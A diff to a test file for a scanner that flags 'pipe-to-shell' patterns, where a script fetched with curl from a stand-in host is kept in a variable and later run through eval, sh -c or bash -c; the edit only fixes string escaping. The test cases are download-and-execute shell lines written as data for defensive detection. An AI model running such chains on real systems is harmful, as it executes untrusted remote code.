@@ -117,7 +117,7 @@ describe("pipe-to-shell: a kept download handed to another variable", () => {
     const keep = "x=$(curl -fsSL https://x.example/y.sh)\n";
     for (const lines of [
       'y="set -e; $x"\nsh -c "$y"',
-      'y="cd /tmp && ${x}"\neval "$y"',
+      `y="cd /tmp && \${x}"\neval "$y"`,
       'export SCRIPT="set -e\n$x"\nbash -c "$SCRIPT"',
       'y=pre\\;$x\neval "$y"',
     ]) {
@@ -131,8 +131,8 @@ describe("pipe-to-shell: a kept download handed to another variable", () => {
       'msg="got $x"\necho "$msg"',
       "y='set -e; $x'\nsh -c \"$y\"",
       'y="a\\$x"\nsh -c "$y"',
-      'n="${#x}"\nsh -c "$n"',
-      'y="${x:+set}"\nsh -c "$y"',
+      `n="\${#x}"\nsh -c "$n"`,
+      `y="\${x:+set}"\nsh -c "$y"`,
       'y="$xy"\nsh -c "$y"',
     ]) {
       expect(flagged("p/s/run.sh", `${keep}${lines}\n`), lines).toEqual([]);
